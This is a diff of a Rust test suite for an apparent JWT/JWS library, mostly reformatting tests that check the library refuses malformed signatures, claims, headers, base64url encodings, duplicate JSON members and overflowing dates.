-            assert_eq!(judge_signature(&signer, &input, &signature), Err(ErrorKind::Unauthentic), "{alg} {}", signature.len());
+            assert_eq!(
+                judge_signature(&signer, &input, &signature),
+                Err(ErrorKind::Unauthentic),
+                "{alg} {}",
+                signature.len()
+            );
         }
     }
 }
@@ -1034,10 +1233,20 @@ fn ed25519_signatures_are_canonical_and_64_bytes() {
         assert_eq!(judge_signature(&signer, &input, &good), Ok(()));
         let reversed = |bytes: &[u8]| bytes.iter().rev().copied().collect::<Vec<u8>>();
         let around = reversed(&add(&reversed(&good[32..]), &reversed(&l)).unwrap());
-        let mut wrong = vec![[&good[..32], &around].concat(), [&good[..], &[0]].concat(), [&good[..32], &l].concat(), vec![0; 64]];
+        let mut wrong = vec![
+            [&good[..32], &around].concat(),
+            [&good[..], &[0]].concat(),
+            [&good[..32], &l].concat(),
+            vec![0; 64],
+        ];
         wrong.extend((0..64).map(|len| good[..len].to_vec()));
         for signature in wrong {
-            assert_eq!(judge_signature(&signer, &input, &signature), Err(ErrorKind::Unauthentic), "{}", signature.len());
+            assert_eq!(
+                judge_signature(&signer, &input, &signature),
+                Err(ErrorKind::Unauthentic),
+                "{}",
+                signature.len()
+            );
         }
     }
 }
@@ -1052,8 +1261,15 @@ fn rsa_signatures_are_as_long_as_the_modulus_and_below_it() {
         assert_eq!(good.len(), n.len());
         assert_eq!(judge_signature(signer, &input, &good), Ok(()));
         let one = [vec![0; n.len() - 1], vec![1]].concat();
-        let mut wrong = vec![[&[0], &good[..]].concat(), [&good[..], &[0]].concat(), good[1..].to_vec(), Vec::new()];
-        wrong.extend([good[..255].to_vec(), vec![0; n.len()], one.clone(), vec![0xff; n.len()], n.to_vec()]);
+        let mut wrong =
+            vec![[&[0], &good[..]].concat(), [&good[..], &[0]].concat(), good[1..].to_vec(), Vec::new()];
+        wrong.extend([
+            good[..255].to_vec(),
+            vec![0; n.len()],
+            one.clone(),
+            vec![0xff; n.len()],
+            n.to_vec(),
+        ]);
         wrong.extend([subtract(n, &one), subtract(n, &good), vec![1; 512], vec![1; 1024]]);
         wrong.extend(add(&good, n));
         for signature in wrong {
@@ -1074,9 +1290,16 @@ fn macs_are_never_truncated() {
         let good = signer.sign(input.as_bytes()).unwrap();
         assert_eq!(judge_signature(&signer, &input, &good), Ok(()));
         for len in 0..good.len() {
-            assert_eq!(judge_signature(&signer, &input, &good[..len]), Err(ErrorKind::Unauthentic), "{alg} {len}");
+            assert_eq!(
+                judge_signature(&signer, &input, &good[..len]),
+                Err(ErrorKind::Unauthentic),
+                "{alg} {len}"
+            );
         }
-        assert_eq!(judge_signature(&signer, &input, &[&good[..], &[0]].concat()), Err(ErrorKind::Unauthentic));
+        assert_eq!(
+            judge_signature(&signer, &input, &[&good[..], &[0]].concat()),
+            Err(ErrorKind::Unauthentic)
+        );
     }
 }
 
@@ -1095,9 +1318,34 @@ fn a_registered_claim_of_a_wrong_type_is_never_absent() {
             _ => value.starts_with(|first: char| first == '-' || first.is_ascii_digit()),
         };
         let all = [
-            "null", "true", "false", "0", "-1", "-0.0", "1500000000", "1500000000.5", "15e8", r#""x""#, r#""""#, r#""\u0041""#,
-            r#""1500000000""#, r#""NaN""#, "[]", r#"["x"]"#, r#"["x","y","x"]"#, "[1]", "[null]", r#"["x",1]"#, r#"["x",null]"#,
-            r#"[["x"]]"#, r#"[{}]"#, r#"["x",["y"]]"#, "{}", r#"{"x":1}"#, r#"{"0":"x","length":1}"#, "[1500000000]",
+            "null",
+            "true",
+            "false",
+            "0",
+            "-1",
+            "-0.0",
+            "1500000000",
+            "1500000000.5",
+            "15e8",
+            r#""x""#,
+            r#""""#,
+            r#""\u0041""#,
+            r#""1500000000""#,
+            r#""NaN""#,
+            "[]",
+            r#"["x"]"#,
+            r#"["x","y","x"]"#,
+            "[1]",
+            "[null]",
+            r#"["x",1]"#,
+            r#"["x",null]"#,
+            r#"[["x"]]"#,
+            r#"[{}]"#,
+            r#"["x",["y"]]"#,
+            "{}",
+            r#"{"x":1}"#,
+            r#"{"0":"x","length":1}"#,
+            "[1500000000]",
         ];
         for value in all {
             run += 1;
@@ -1118,30 +1366,76 @@ fn a_registered_claim_of_a_wrong_type_is_never_absent() {
 
 #[test]
 fn numbers_that_json_has_not_are_refused() {
-    for number in ["NaN", "Infinity", "-Infinity", "01", "+1", ".5", "1.", "0x10", "1e", "1_000", "--1", "1e+", "0b1", "1.5.5", "1,5", "١"] {
-        assert_eq!(judge_claims(format!(r#"{{"exp":{number}}}"#)), Err(ErrorKind::MalformedClaims), "{number}");
+    for number in [
+        "NaN",
+        "Infinity",
+        "-Infinity",
+        "01",
+        "+1",
+        ".5",
+        "1.",
+        "0x10",
+        "1e",
+        "1_000",
+        "--1",
+        "1e+",
+        "0b1",
+        "1.5.5",
+        "1,5",
+        "١",
+    ] {
+        assert_eq!(
+            judge_claims(format!(r#"{{"exp":{number}}}"#)),
+            Err(ErrorKind::MalformedClaims),
+            "{number}"
+        );
     }
 }
 
 #[test]
 fn extreme_dates_never_overflow() {
     let far = [
-        "1e400", "1e308", "9.9e99", "1000000000000000000", "9223372036854775806", "9223372036854775807", "9223372036854775808",
-        "18446744073709551616", "253402300799", "253402300800", "253402300800.5", "1e18", "1e19", "1E+300",
+        "1e400",
+        "1e308",
+        "9.9e99",
+        "1000000000000000000",
+        "9223372036854775806",
+        "9223372036854775807",
+        "9223372036854775808",
+        "18446744073709551616",
+        "253402300799",
+        "253402300800",
+        "253402300800.5",
+        "1e18",
+        "1e19",
+        "1E+300",
     ];
     let base = Validator::new().any_audience();
     let soft = base.clone().leeway(time::Duration::seconds(600));
     for validator in [&base, &soft, &base.clone().max_age(time::Duration::MAX)] {
         for number in far {
-            let plus = |name: &str, sign: &str| format!(r#"{{"iat":1800000000,"exp":1900000000,"{name}":{sign}{number}}}"#);
+            let plus = |name: &str, sign: &str| {
+                format!(r#"{{"iat":1800000000,"exp":1900000000,"{name}":{sign}{number}}}"#)
+            };
             let replaced = |name: &str, sign: &str| {
                 // The claim stands once: the default goes.
                 let text = plus(name, sign);
-                if name == "exp" { text.replace(r#""exp":1900000000,"#, "") } else { text.replace(r#""iat":1800000000,"#, if name == "iat" { "" } else { r#""iat":1800000000,"# }) }
+                if name == "exp" {
+                    text.replace(r#""exp":1900000000,"#, "")
+                } else {
+                    text.replace(
+                        r#""iat":1800000000,"#,
+                        if name == "iat" { "" } else { r#""iat":1800000000,"# },
+                    )
+                }
             };
             assert_eq!(validate(&replaced("exp", ""), validator), Ok(()), "{number}");
             assert_eq!(validate(&replaced("exp", "-"), validator), Err(ErrorKind::Expired), "{number}");
-            assert_eq!(validate(&replaced("nbf", ""), validator), Err(ErrorKind::NotYetValid), "{number}");
+            assert_eq!(
+                validate(&replaced("nbf", ""), validator),
+                Err(ErrorKind::NotYetValid),
+                "{number}"
+            );
             assert_eq!(validate(&replaced("nbf", "-"), validator), Ok(()), "{number}");
         }
     }
@@ -1158,21 +1452,30 @@ fn extreme_dates_never_overflow() {
     for number in far {
         for sign in ["", "-"] {
             let signer = hs256();
-            let claims = format!(r#"{{"exp":{sign}{number},"nbf":{sign}{number},"iat":{sign}{number}}}"#);
+            let claims =
+                format!(r#"{{"exp":{sign}{number},"nbf":{sign}{number},"iat":{sign}{number}}}"#);
             let token = signed_as(header_of(&signer), claims, &signer);
             let token = JwsCodec::new(signer).decode_at::<IgnoredAny>(&token, at(NOW)).unwrap();
             let claims = token.claims_unvalidated().unwrap();
-            let all = [claims.registered().expires_at(), claims.registered().not_before(), claims.registered().issued_at()];
+            let all = [
+                claims.registered().expires_at(),
+                claims.registered().not_before(),
+                claims.registered().issued_at(),
+            ];
             for moment in all {
                 let year = moment.unwrap().year();
-                assert!(year == 9999 || year == -9999 || number.starts_with("253402300"), "{sign}{number}: {year}");
+                assert!(
+                    year == 9999 || year == -9999 || number.starts_with("253402300"),
+                    "{sign}{number}: {year}"
+                );
             }
         }
     }
     // Nor does a clock at the end of the calendar.
     for (end, due) in [(253_402_300_799, Err(ErrorKind::Expired)), (-377_705_116_800, Ok(()))] {
         let signer = hs256();
-        let token = signed_as(header_of(&signer), r#"{"exp":1900000000,"iat":9223372036854775807}"#, &signer);
+        let token =
+            signed_as(header_of(&signer), r#"{"exp":1900000000,"iat":9223372036854775807}"#, &signer);
         let token = JwsCodec::new(signer).decode_at::<IgnoredAny>(&token, at(end)).unwrap();
         let verdict = token.validate_at(&soft, at(end)).map(|_| ()).map_err(|error| error.kind());
         assert_eq!(verdict, due);
@@ -1249,7 +1552,23 @@ fn an_audience_is_compared_whole() {
 
 #[test]
 fn claims_are_a_json_object_and_nothing_else() {
-    for payload in ["", " ", "null", "true", "1", "\"{}\"", "[]", r#"[{"exp":1}]"#, "{", "}", "{}{}", "{} x", "{},", "\u{feff}{}", "<a/>"] {
+    for payload in [
+        "",
+        " ",
+        "null",
+        "true",
+        "1",
+        "\"{}\"",
+        "[]",
+        r#"[{"exp":1}]"#,
+        "{",
+        "}",
+        "{}{}",
+        "{} x",
+        "{},",
+        "\u{feff}{}",
+        "<a/>",
+    ] {
         assert_eq!(judge_claims(payload), Err(ErrorKind::MalformedClaims), "{payload}");
     }
     for payload in ["{}", " {}", "{}\n", "\t{ }\r\n"] {
@@ -1266,7 +1585,11 @@ fn a_token_beyond_its_limit_is_refused_before_it_is_decoded() {
     let signer = hs256();
     let ring = Keyring::new(signer.clone());
     let token = signed_as(header_of(&signer), PLAIN, &signer);
-    for (most, due) in [(token.len(), None), (token.len() - 1, Some(ErrorKind::TooLarge)), (0, Some(ErrorKind::TooLarge))] {
+    for (most, due) in [
+        (token.len(), None),
+        (token.len() - 1, Some(ErrorKind::TooLarge)),
+        (0, Some(ErrorKind::TooLarge)),
+    ] {
         let limits = Limits::default().token_len(most);
         assert_eq!(kind(compact::verify(&token, &ring, &limits, at(NOW))), due, "{most}");
         let codec = JwsCodec::new(signer.clone()).limits(limits);
@@ -1307,7 +1630,10 @@ fn a_header_has_8_kib_at_most() {
     let token = signed_as(header(1000), PLAIN, &signer);
     let codec = JwsCodec::new(signer.clone());
     assert!(codec.clone().limits(Limits::default().header_len(1000)).decode::<NoCustom>(&token).is_ok());
-    assert_eq!(kind(codec.limits(Limits::default().header_len(999)).decode::<NoCustom>(&token)), Some(ErrorKind::TooLarge));
+    assert_eq!(
+        kind(codec.limits(Limits::default().header_len(999)).decode::<NoCustom>(&token)),
+        Some(ErrorKind::TooLarge)
+    );
 }
 
 #[test]
@@ -1323,7 +1649,10 @@ fn json_deeper_than_128_is_refused() {
         assert_eq!(judge_header(&hs256(), header(128)), Ok(()));
         assert_eq!(judge_header(&hs256(), header(129)), Err(ErrorKind::Malformed));
         // Open brackets without end.
-        assert_eq!(judge_claims(format!(r#"{{"a":{}"#, open.repeat(100_000))), Err(ErrorKind::MalformedClaims));
+        assert_eq!(
+            judge_claims(format!(r#"{{"a":{}"#, open.repeat(100_000))),
+            Err(ErrorKind::MalformedClaims)
+        );
     }
 }
 
@@ -1361,12 +1690,20 @@ fn sloppy_base64url_is_refused_in_every_part() {
     assert_eq!(read(&ring, &good), Ok(()));
     let signature = good.rsplit_once('.').unwrap().1.to_owned();
     let spoil = |part: &str| {
-        let mut spoilt = vec![format!("{part}="), format!("{part}=="), format!("{part}\n"), format!(" {part}"), format!("{part} ")];
+        let mut spoilt = vec![
+            format!("{part}="),
+            format!("{part}=="),
+            format!("{part}\n"),
+            format!(" {part}"),
+            format!("{part} "),
+        ];
         spoilt.push(format!("{}\n{}", &part[..4], &part[4..]));
         spoilt.push(format!("{}\0{}", &part[..4], &part[4..]));
         spoilt.push(format!("{}%3D", part));
         spoilt.push(format!("{}ü", part));
-        spoilt.extend([part.replace('-', "+"), part.replace('_', "/")].into_iter().filter(|text| text != part));
+        spoilt.extend(
+            [part.replace('-', "+"), part.replace('_', "/")].into_iter().filter(|text| text != part),
+        );
         // Bits of no byte.
         let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
         let last = alphabet.find(part.chars().last().unwrap()).unwrap();
@@ -1392,7 +1729,11 @@ fn sloppy_base64url_is_refused_in_every_part() {
     }
     for spoilt in spoil(&signature) {
         run += 1;
-        assert_eq!(read(&ring, &format!("{header}.{payload}.{spoilt}")), Err(ErrorKind::Malformed), "{spoilt:?}");
+        assert_eq!(
+            read(&ring, &format!("{header}.{payload}.{spoilt}")),
+            Err(ErrorKind::Malformed),
+            "{spoilt:?}"
+        );
     }
     println!("spellings: {run} refused");
 }
@@ -1400,7 +1741,13 @@ fn sloppy_base64url_is_refused_in_every_part() {
 #[test]
 fn white_space_around_a_token_is_not_forgiven() {
     let token = signed_as(header_of(&hs256()), PLAIN, &hs256());
-    for text in [format!(" {token}"), format!("{token}\n"), format!("\u{feff}{token}"), format!("Bearer {token}"), format!("\"{token}\"")] {
+    for text in [
+        format!(" {token}"),
+        format!("{token}\n"),
+        format!("\u{feff}{token}"),
+        format!("Bearer {token}"),
+        format!("\"{token}\""),
+    ] {
         assert_eq!(read(&Keyring::new(hs256()), &text), Err(ErrorKind::Malformed), "{text}");
     }
 }
@@ -1427,7 +1774,10 @@ fn rejects_duplicate_members_of_a_header() {
     ] {
         assert_eq!(judge_header(&signer, header), Err(ErrorKind::Malformed), "{header}");
     }
-    assert_eq!(judge_header(&signer, r#"{"alg":"HS256","x":{"alg":"none"},"y":{"alg":"none"}}"#), Ok(()));
+    assert_eq!(
+        judge_header(&signer, r#"{"alg":"HS256","x":{"alg":"none"},"y":{"alg":"none"}}"#),
+        Ok(())
+    );
 }
 
 #[test]
@@ -1448,19 +1798,33 @@ fn rejects_duplicate_members_of_claims() {
         assert_eq!(judge_claims(claims), Err(ErrorKind::MalformedClaims), "{claims}");
     }
     // Twice at the same name in different objects, or names that only look alike, are fine.
-    for claims in [r#"{"a":{"b":1},"b":{"b":1,"a":{"b":2}}}"#, "{\"\u{fc}\":1,\"u\u{308}\":2}", r#"{"a":1,"A":2}"#] {
+    for claims in
+        [r#"{"a":{"b":1},"b":{"b":1,"a":{"b":2}}}"#, "{\"\u{fc}\":1,\"u\u{308}\":2}", r#"{"a":1,"A":2}"#]
+    {
         assert_eq!(judge_claims(claims), Ok(()), "{claims}");
     }
     // However many stand between them.
     for between in [1, 10, 11, 12, 13, 22, 23, 24, 25, 100] {
         let members: String = (0..between).map(|n| format!(r#""m{n}":{{"x":{n}}},"#)).collect();
-        assert_eq!(judge_claims(format!(r#"{{"a":1,{members}"a":2}}"#)), Err(ErrorKind::MalformedClaims), "{between}");
+        assert_eq!(
+            judge_claims(format!(r#"{{"a":1,{members}"a":2}}"#)),
+            Err(ErrorKind::MalformedClaims),
+            "{between}"
+        );
         assert_eq!(judge_claims(format!(r#"{{"a":1,{members}"b":2}}"#)), Ok(()), "{between}");
-        assert_eq!(judge_claims(format!(r#"{{"z":{{"a":1,{members}"a":2}}}}"#)), Err(ErrorKind::MalformedClaims), "{between}");
+        assert_eq!(
+            judge_claims(format!(r#"{{"z":{{"a":1,{members}"a":2}}}}"#)),
+            Err(ErrorKind::MalformedClaims),
+            "{between}"
+        );
         // The outer names are not forgotten behind a large inner object.
         let nested = format!(r#"{{"a":1,"z":{{{members}"b":1}},"a":2}}"#);
         assert_eq!(judge_claims(nested), Err(ErrorKind::MalformedClaims), "{between}");
-        assert_eq!(judge_claims(format!(r#"{{"a":1,"z":{{{members}"b":1}},"b":2}}"#)), Ok(()), "{between}");
+        assert_eq!(
+            judge_claims(format!(r#"{{"a":1,"z":{{{members}"b":1}},"b":2}}"#)),
+            Ok(()),
+            "{between}"
+        );
     }
 }
 
@@ -1474,25 +1838,57 @@ fn rejects_duplicate_members_of_jwks() {
         r#"{"kty":"oct","k":"AAAA","x5c":[{"a":1,"a":2}]}"#,
     ] {
         assert_eq!(kind(Jwk::from_json(jwk)), Some(ErrorKind::InvalidJwk), "{jwk}");
-        assert_eq!(kind(JwkSet::from_json(format!(r#"{{"keys":[{jwk}]}}"#))), Some(ErrorKind::InvalidJwk), "{jwk}");
+        assert_eq!(
+            kind(JwkSet::from_json(format!(r#"{{"keys":[{jwk}]}}"#))),
+            Some(ErrorKind::InvalidJwk),
+            "{jwk}"
+        );
     }
 }
 
 #[test]
 fn doubtful_json_is_refused() {
     let texts: [&[u8]; 16] = [
-        b"\xff", b"\"\xff\"", b"\"\xc0\xaf\"", b"\"\xed\xa0\x80\"", b"\"\xf4\x90\x80\x80\"", br#""\ud800""#, br#""\udc00""#,
-        br#""\ud800\u0041""#, br#""\ud800\ud800""#, b"\"\x00\"", b"\"\n\"", br#""\x41""#, br#""\u12""#, b"'x'", b"undefined", b"/* */1",
+        b"\xff",
+        b"\"\xff\"",
+        b"\"\xc0\xaf\"",
+        b"\"\xed\xa0\x80\"",
+        b"\"\xf4\x90\x80\x80\"",
+        br#""\ud800""#,
+        br#""\udc00""#,
+        br#""\ud800\u0041""#,
+        br#""\ud800\ud800""#,
+        b"\"\x00\"",
+        b"\"\n\"",
+        br#""\x41""#,
+        br#""\u12""#,
+        b"'x'",
+        b"undefined",
+        b"/* */1",
     ];
     for value in texts {
         let claims = [b"{\"a\":", value, b"}"].concat();
         assert_eq!(judge_claims(&claims), Err(ErrorKind::MalformedClaims), "{}", claims.escape_ascii());
         let header = [b"{\"alg\":\"HS256\",\"a\":", value, b"}"].concat();
-        assert_eq!(judge_header(&hs256(), &header), Err(ErrorKind::Malformed), "{}", header.escape_ascii());
+        assert_eq!(
+            judge_header(&hs256(), &header),
+            Err(ErrorKind::Malformed),
+            "{}",
+            header.escape_ascii()
+        );
         let jwk = [b"{\"kty\":\"oct\",\"k\":\"AAAA\",\"a\":", value, b"}"].concat();
         assert_eq!(kind(Jwk::from_json(&jwk)), Some(ErrorKind::InvalidJwk), "{}", jwk.escape_ascii());
     }
-    for header in [r#"{"alg":"HS256",}"#, r#"{"alg":"HS256"}{}"#, r#"{"alg":"HS256"} x"#, "\u{feff}{\"alg\":\"HS256\"}", "[]", "null", "", r#""HS256""#] {
+    for header in [
+        r#"{"alg":"HS256",}"#,
+        r#"{"alg":"HS256"}{}"#,
+        r#"{"alg":"HS256"} x"#,
+        "\u{feff}{\"alg\":\"HS256\"}",
+        "[]",
+        "null",
+        "",
+        r#""HS256""#,
+    ] {
         assert_eq!(judge_header(&hs256(), header), Err(ErrorKind::Malformed), "{header}");
     }
     for name in ["typ", "cty"] {
